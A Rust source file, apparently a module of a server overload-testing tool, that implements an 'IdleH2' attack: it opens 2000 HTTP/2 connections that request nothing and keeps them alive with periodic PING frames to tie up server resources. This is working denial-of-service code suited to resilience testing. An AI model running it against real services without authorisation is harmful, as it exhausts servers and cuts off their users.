//! HTTP/2 connections that ask for nothing, and are kept by PING.

use std::time::Duration;

use async_trait::async_trait;
use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

use crate::overload::attack::{Attack, Attackers, PAUSE, drain};
use crate::overload::frames::{ping, preface};

const CONNECTIONS: usize = 2000;
/// Between two PINGs.
const ALIVE: Duration = Duration::from_secs(2);

pub(crate) struct IdleH2;

#[async_trait]
impl Attack for IdleH2 {
    async fn run(&self, by: Attackers) {
        let begun = async |by: Attackers, number| {
            let mut stream = by.connect(number).await?;
            stream.write_all(&preface(None)).await?;
            loop {
                if let Ok(ended) = timeout(ALIVE, drain(&mut stream)).await {
                    return ended;
                }
                stream.write_all(&ping()).await?;
            }
        };
        by.many(CONNECTIONS, PAUSE, begun).await;
    }
}
